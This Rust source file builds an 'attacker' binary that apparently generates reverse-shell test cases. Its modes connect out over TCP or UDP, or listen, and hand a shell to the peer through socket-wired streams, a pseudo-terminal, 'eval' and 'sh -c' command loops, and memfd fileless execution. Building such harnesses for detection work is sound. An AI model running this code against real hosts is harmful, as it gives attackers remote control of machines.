//! The attackers of the cases, for what a busybox can't do: datagrams, each stream on something else, loops that run
//! what they read, a terminal that is carried, a connection that waits beside the streams, a shell that is no file.

use std::{
    env,
    fs::{self, File, OpenOptions},
    io::{BufRead as _, BufReader, Read as _, Write as _},
    net::{SocketAddr, TcpListener, TcpStream, UdpSocket},
    os::{
        fd::{AsFd, AsRawFd as _, OwnedFd},
        unix::{fs::OpenOptionsExt as _, net::UnixStream, process::CommandExt as _},
    },
    process::{Command, ExitCode, Stdio, exit},
    thread,
};

use anyhow::{Context, Result, bail};
use rustix::{
    fs::{MemfdFlags, Mode, OFlags, memfd_create, mkfifoat},
    io::{FdFlags, fcntl_dupfd_cloexec, fcntl_setfd},
    pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt},
    stdio::{dup2_stdin, dup2_stdout, stdin, stdout},
};

const USAGE: &str =
    "attacker tcp|udp ADDRESS STREAMS PROGRAM [ARGS...]   STREAMS: a letter each for stdin, stdout, stderr: \
                     socket, null, pipe, fifo, terminal, Unix socket, regular file, closed
attacker listen ADDRESS PROGRAM [ARGS...]
attacker loop ADDRESS
attacker pops ADDRESS
attacker terminal ADDRESS PROGRAM [ARGS...]
attacker beside ADDRESS PROGRAM [ARGS...]
attacker memfd ADDRESS NAME FILE [ARGS...]";

/// Does what its arguments say.
pub fn main() -> ExitCode {
    let arguments: Vec<String> = env::args().skip(1).collect();
    let arguments: Vec<&str> = arguments.iter().map(String::as_str).collect();
    match attack(&arguments) {
        Ok(()) => ExitCode::SUCCESS,
        Err(error) => {
            eprintln!("attacker: {error:#}");
            ExitCode::FAILURE
        }
    }
}

fn attack(arguments: &[&str]) -> Result<()> {
    let (kind, address, rest) = match arguments {
        [kind, address, rest @ ..] => (*kind, address.parse::<SocketAddr>()?, rest),
        _ => bail!("{USAGE}"),
    };
    match (kind, rest) {
        ("tcp", [streams, program, arguments @ ..]) => wire(tcp(address)?, streams, program, arguments),
        ("udp", [streams, program, arguments @ ..]) => wire(udp(address)?, streams, program, arguments),
        ("listen", [program, arguments @ ..]) => {
            let (connection, _) = TcpListener::bind(address)?.accept()?;
            wire(connection.into(), "sss", program, arguments)
        }
        ("loop", []) => command_loop(&tcp(address)?),
        ("pops", []) => pops(tcp(address)?),
        ("terminal", [program, arguments @ ..]) => terminal(tcp(address)?, program, arguments),
        ("beside", [program, arguments @ ..]) => beside(&tcp(address)?, program, arguments),
        ("memfd", [name, file, arguments @ ..]) => memfd(tcp(address)?, name, file, arguments),
        _ => bail!("{USAGE}"),
    }
}

fn tcp(peer: SocketAddr) -> Result<OwnedFd> {
    Ok(TcpStream::connect(peer).context("connecting")?.into())
}

/// The first datagram tells the peer who is there.
fn udp(peer: SocketAddr) -> Result<OwnedFd> {
    let any = if peer.is_ipv4() { "0.0.0.0:0" } else { "[::]:0" };
    let socket = UdpSocket::bind(any)?;
    socket.connect(peer)?;
    socket.send(b"here\n")?;
    Ok(socket.into())
}

/// Runs a program with each of its streams on what a letter says; what is at the other ends stays open until it is over.
fn wire(socket: OwnedFd, streams: &str, program: &str, arguments: &[&str]) -> Result<()> {
    let mut command = Command::new(program);
    command.args(arguments);
    if streams == "sss" {
        command
            .stdin(socket.try_clone()?)
            .stdout(socket.try_clone()?)
            .stderr(socket);
        return Err(command.exec()).context(program.to_owned());
    }
    let mut others = Vec::new();
    let mut ends = Vec::new();
    for letter in streams.chars() {
        let (end, other) = end(letter, &socket)?;
        ends.push(end);
        others.extend(other);
    }
    let [stdin, stdout, stderr]: [Option<OwnedFd>; 3] = ends
        .try_into()
        .map_err(|_| anyhow::anyhow!("three streams, not {streams:?}"))?;
    let closed = [stdin.is_none(), stdout.is_none(), stderr.is_none()];
    let stdio = |end: Option<OwnedFd>| end.map_or_else(Stdio::null, Stdio::from);
    command.stdin(stdio(stdin)).stdout(stdio(stdout)).stderr(stdio(stderr));
    // SAFETY: between fork and exec, only system calls are made.
    unsafe {
        command.pre_exec(move || {
            for (stream, closed) in (0..).zip(closed) {
                if closed {
                    rustix::io::close(stream);
                }
            }
            Ok(())
        });
    }
    let mut child = command.spawn().context(program.to_owned())?;
    drop(command);
    let status = child.wait()?;
    if !status.success() {
        bail!("{program}: {status}");
    }
    Ok(())
}

/// What to give to the program, and what to keep while it runs. Nothing to give: the stream is closed.
fn end(letter: char, socket: &OwnedFd) -> Result<(Option<OwnedFd>, Option<OwnedFd>)> {
    Ok(match letter {
        's' => (Some(socket.try_clone()?), None),
        'n' => (
            Some(OpenOptions::new().read(true).write(true).open("/dev/null")?.into()),
            None,
        ),
        'p' => {
            let (reader, writer) = std::io::pipe()?;
            (Some(writer.into()), Some(reader.into()))
        }
        'f' => {
            let path = format!("fifo-{}", std::process::id());
            mkfifoat(rustix::fs::CWD, &path, Mode::RUSR | Mode::WUSR)?;
            let fifo: OwnedFd = OpenOptions::new().read(true).write(true).open(path)?.into();
            (Some(fifo), None)
        }
        't' => {
            let (main, terminal) = open_terminal()?;
            (Some(terminal), Some(main))
        }
        'u' => {
            let (ours, theirs) = UnixStream::pair()?;
            (Some(theirs.into()), Some(ours.into()))
        }
        'r' => (Some(File::create(format!("file-{}", std::process::id()))?.into()), None),
        'c' => (None, None),
        _ => bail!("no stream is called {letter:?}"),
    })
}

/// The main side and the program's side of a new terminal. Neither outlives an exec.
fn open_terminal() -> Result<(OwnedFd, OwnedFd)> {
    let main = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY | OpenptFlags::CLOEXEC)?;
    grantpt(&main)?;
    unlockpt(&main)?;
    let name = ptsname(&main, Vec::new())?;
    let terminal = OpenOptions::new()
        .read(true)
        .write(true)
        .custom_flags(OFlags::NOCTTY.bits().cast_signed())
        .open(name.to_str()?)?;
    Ok((main, terminal.into()))
}

/// Runs a program on a terminal of its own, and carries what the peer types and what is shown: the connection becomes this
/// process's own streams.
fn terminal(socket: OwnedFd, program: &str, arguments: &[&str]) -> Result<()> {
    dup2_stdin(&socket)?;
    dup2_stdout(&socket)?;
    drop(socket);
    let (main, terminal) = open_terminal()?;
    let mut command = Command::new(program);
    command
        .args(arguments)
        .stdin(terminal.try_clone()?)
        .stdout(terminal.try_clone()?)
        .stderr(terminal);
    // SAFETY: between fork and exec, only system calls are made.
    unsafe {
        command.pre_exec(|| {
            rustix::process::setsid()?;
            rustix::process::ioctl_tiocsctty(stdin())?;
            Ok(())
        });
    }
    command.spawn().context(program.to_owned())?;
    // It holds the program's side, of which nothing is to be left when the program ends.
    drop(command);
    let shown = main.try_clone()?;
    thread::spawn(move || {
        // However the peer or the program ended.
        let _ = carry(stdin(), main);
        exit(0);
    });
    carry(shown, stdout())
}

/// Copies what there is as soon as it is there.
fn carry(from: impl AsFd, to: impl AsFd) -> Result<()> {
    let mut buffer = [0; 4096];
    loop {
        let length = rustix::io::read(&from, &mut buffer)?;
        if length == 0 {
            return Ok(());
        }
        let mut rest = buffer.get(..length).unwrap_or_default();
        while !rest.is_empty() {
            let written = rustix::io::write(&to, rest)?;
            rest = rest.get(written..).unwrap_or_default();
        }
    }
}

/// Runs each line that the peer sends, and sends back what the command said. No command has the connection.
fn pops(socket: OwnedFd) -> Result<()> {
    let mut answers = File::from(socket.try_clone()?);
    for line in BufReader::new(File::from(socket)).lines() {
        let command = line?;
        let said = Command::new("/bin/sh").args(["-c", &command]).output()?;
        answers.write_all(&said.stdout)?;
    }
    Ok(())
}

/// Becomes a program that finds the connection at the descriptor $FD.
fn beside(socket: &OwnedFd, program: &str, arguments: &[&str]) -> Result<()> {
    let kept = keep(socket)?;
    let mut command = Command::new(program);
    command.args(arguments).env("FD", kept.as_raw_fd().to_string());
    Err(command.exec()).context(program.to_owned())
}

/// The connection as a descriptor above the streams that programs inherit.
fn keep(socket: &OwnedFd) -> Result<OwnedFd> {
    let kept = fcntl_dupfd_cloexec(socket, 5)?;
    fcntl_setfd(&kept, FdFlags::empty())?;
    Ok(kept)
}

/// Becomes a shell that runs each line which the peer sends, and sends back what it says: the connection is none of the
/// shell's own streams.
fn command_loop(socket: &OwnedFd) -> Result<()> {
    let kept = keep(socket)?;
    let descriptor = kept.as_raw_fd();
    let script = format!("while read line <&{descriptor}; do eval \"$line\" >&{descriptor} 2>&{descriptor}; done");
    let mut shell = Command::new("/bin/sh");
    Err(shell.args(["-c", &script]).stdin(Stdio::null()).exec()).context("/bin/sh")
}

/// Runs a copy of `file` that exists in memory only.
fn memfd(socket: OwnedFd, name: &str, file: &str, arguments: &[&str]) -> Result<()> {
    let mut memory = File::from(memfd_create(name, MemfdFlags::CLOEXEC)?);
    let mut program = Vec::new();
    File::open(file)?.read_to_end(&mut program)?;
    memory.write_all(&program)?;
    let path = fs::canonicalize("/proc/self")?.join(format!("fd/{}", memory.as_raw_fd()));
    let mut command = Command::new(path);
    if let [first, rest @ ..] = arguments {
        command.arg0(first).args(rest);
    }
    command
        .stdin(socket.try_clone()?)
        .stdout(socket.try_clone()?)
        .stderr(socket);
    Err(command.exec()).context(name.to_owned())
}
